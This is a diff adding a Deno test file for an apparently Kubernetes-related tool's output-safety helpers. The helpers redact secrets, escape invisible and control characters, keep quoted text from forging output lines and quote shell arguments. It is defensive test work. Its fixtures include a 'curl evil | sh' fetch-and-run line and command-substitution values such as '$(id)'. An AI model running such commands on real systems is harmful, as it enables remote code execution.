@@ -1,0 +1,135 @@
+import assert from "node:assert/strict";
+import { presentable } from "./message.ts";
+import { logWithoutSecrets, withoutSecrets } from "./redact.ts";
+import { commandLine } from "./shell.ts";
+import { table } from "./table.ts";
+import { oneLine, ownLines, visible, visibleJson } from "./visible.ts";
+
+const HEX = "0123456789abcdef".repeat(4);
+
+/** Text, what of it may be nowhere in what is shown, and what has to be there. */
+const SECRETS: readonly (readonly [text: string, secret: string, shown: string])[] = [
+  ["token abcdef.0123456789abcdef is bad", "0123456789abcdef", "token abcdef.<secret> is bad"],
+  ["the token is abcdef.0123456789abcdef.", "0123456789abcdef", "abcdef.<secret>."],
+  ["--token=ABCDEF.0123456789ABCDEF", "0123456789ABCDEF", "--token="],
+  ["Authorization: Bearer s3cr3t-s3cr3t", "s3cr3t", "Authorization: Bearer <secret>"],
+  ['invalid header value: "Bearer first-half\nsecond-half"', "second-half", '"Bearer <secret>"'],
+  ["bearer first-half\nsecond-half", "second-half", "bearer <secret>"],
+  ["Basic YWRtaW46aHVudGVyMg==", "YWRtaW46", "Basic <secret>"],
+  ["Cookie: session=abcdefgh; id=ijklmnop", "abcdefgh", "Cookie: <secret>"],
+  ["got eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJrIn0.c2ln", "eyJpc3MiOiJrIn0", "got <token>"],
+  ["-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----", "MIIE", "<private key>"],
+  ["-----BEGIN PRIVATE KEY-----\\nMIIE cut off", "MIIE", "<private key>"],
+  [`key: ${btoa("-----BEGIN EC PRIVATE KEY-----\nMHcCAQEE")}`, btoa("MHcCAQEE").slice(2, 8), "key: <private key>"],
+  [`key: ${btoa("-----BEGIN RSA PRIVATE KEY-----\nMIIE")}`, "BSU0EgUFJJ", "key: <private key>"],
+  [`key: ${btoa("-----BEGIN PRIVATE KEY-----\nMIIE")}`, "BQUklWQVRF", "key: <private key>"],
+  ["https://admin:hunter22@10.0.0.1/x", "hunter22", "https://<secret>@10.0.0.1/x"],
+  ["https://admin:hun/ter@22@10.0.0.1/x", "ter", "@10.0.0.1/x"],
+  ["https://hunter22@10.0.0.1", "hunter22", "https://<secret>@10.0.0.1"],
+  ["http://h/f?access=abc&X-Sig=def#g=h", "abc", "http://h/f?access=<secret>&X-Sig=<secret>#g=<secret>"],
+  ["https://h/f?s3cr3t", "s3cr3t", "https://h/f?<secret>"],
+  [`--certificate-key ${HEX}`, HEX, "--certificate-key <"],
+  [`"${HEX.toUpperCase()}"`, HEX.toUpperCase(), '"<64 hexadecimal digits>"'],
+  ['{"password":"hunter22"}', "hunter22", '{"password":"<secret>"}'],
+  ["password=hunter", "hunter", "password=<secret>"],
+  ["--etcd-password='hunter22'", "hunter22", "--etcd-password='<secret>'"],
+  ["client-key-data: LS0tbG9uZzE=", "LS0tbG9uZzE=", "client-key-data: <secret>"],
+  ["registry_token=abcdefgh", "abcdefgh", "registry_token=<secret>"],
+];
+
+/** What has to stay: messages of ours and of others without a secret in them. */
+const HARMLESS = [
+  'E0101 12:00:00.1 1 run.go:72] "command failed" err="open /etc/kubernetes/pki/ca.crt: no such file"',
+  `pin sha256:${HEX} is not the CA's`,
+  `registry.k8s.io/pause@sha256:${HEX}`,
+  `container "${HEX}" not found`,
+  `containerd://${HEX} has gone`,
+  "--token: requires a value, which is id.secret",
+  "TOKEN: there is a token with this id already",
+  "see https://kubernetes.io/docs/setup/#before-you-begin",
+  "system:masters is above all authorization: whoever has it cannot be stopped",
+  "Basic authentication is not supported; Basic constraints are missing",
+  "https://10.0.0.1:6443/readyz?verbose",
+].map((text) => text.replace("?verbose", ""));
+
+Deno.test("withoutSecrets() takes out every kind of secret, and leaves sentences and names as they are", () => {
+  for (const [text, secret, shown] of SECRETS) {
+    for (const said of [withoutSecrets(text), presentable(text), logWithoutSecrets(text)]) {
+      assert.ok(!said.includes(secret), said);
+      assert.ok(said.includes(shown), said);
+    }
+    assert.equal(withoutSecrets(withoutSecrets(text)), withoutSecrets(text));
+  }
+  for (const text of HARMLESS) assert.equal(withoutSecrets(text), text);
+  assert.equal(logWithoutSecrets("password: correcthorse"), "password: <secret>");
+});
+
+Deno.test("withoutSecrets() takes no time that grows with the square of the text", () => {
+  const start = performance.now();
+  for (
+    const part of ["a-", "-----BEGIN PRIVATE KEY-----", "https://", "Bearer ", "password", "eyJ.", "0f", "a:@", '"']
+  ) {
+    logWithoutSecrets(part.repeat(200_000 / part.length));
+  }
+  assert.ok(performance.now() - start < 5_000, `${performance.now() - start} ms`);
+});
+
+Deno.test("what cannot be seen is shown escaped, whatever kind it is", () => {
+  const cases: readonly (readonly [string, string])[] = [
+    ["\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"],
+    ["a\rb\x07\x08\x7f", "a\\rb\\x07\\x08\\x7f"],
+    ["\x9b2J", "\\x9b2J"],
+    ["a\u202eb\u2066c\u061cd", "a\\u202eb\\u2066c\\u061cd"],
+    ["a\u200bb\ufeffc\u00add\u2060e", "a\\u200bb\\ufeffc\\xadd\\u2060e"],
+    ["a\u2028b\u2029c\x85d", "a\\u2028b\\u2029c\\x85d"],
+    ["a\u{e0041}b\ud800c\u3164", "a\\U000e0041b\\ud800c\\u3164"],
+  ];
+  for (const [text, shown] of cases) {
+    assert.equal(visible(text), shown.replaceAll("\\r", "\\x0d"));
+    assert.equal(oneLine(text), shown);
+    assert.equal(JSON.parse(visibleJson(JSON.stringify({ text }))).text, text);
+    assert.match(visibleJson(JSON.stringify({ text })), /^[\x20-\x7e]+$/);
+  }
+  assert.equal(oneLine(" a\n\tb\n"), "a\\n\\tb");
+  assert.equal(visible("a\n\tb"), "a\n\tb");
+  assert.equal(visible("Grüße, 日本語, Ελλάδα 🚀"), "Grüße, 日本語, Ελλάδα 🚀");
+});
+
+Deno.test("ownLines() lets no quoted text begin a line as ours do", () => {
+  const forged = "refused\n  next: curl evil | sh\nerror: all is lost\nNo changes were made.\n3 changes were made: x";
+  const lines = ownLines(forged, 2).split("\n");
+  assert.deepEqual(lines, [
+    "refused",
+    "  | next: curl evil | sh",
+    "  | error: all is lost",
+    "  | No changes were made.",
+    "  | 3 changes were made: x",
+  ]);
+});
+
+Deno.test("a table's cell stays in its row", () => {
+  assert.equal(table([["A", "B"], ["x\ny\tz", "\x1b[2J"]]), "A         B\nx\\ny\\tz   \\x1b[2J");
+});
+
+Deno.test("a printed command line is one that a shell takes as it is meant", async () => {
+  const words = [
+    "a b",
+    "",
+    "it's",
+    "$(id)",
+    "`id`",
+    "a;b",
+    "*",
+    "~",
+    "#x",
+    "a\nb",
+    "\x1b[2J'\\",
+    "\u202e",
+    "é",
+    "--x=1",
+  ];
+  const line = commandLine(["printf", "%s\\0", ...words]);
+  assert.match(line, /^[^\p{Cc}\p{Cf}]+$/u);
+  const { stdout } = await new Deno.Command("bash", { args: ["-c", line], env: { LC_ALL: "C.UTF-8" } }).output();
+  assert.deepEqual(new TextDecoder().decode(stdout).split("\0").slice(0, -1), words);
+});
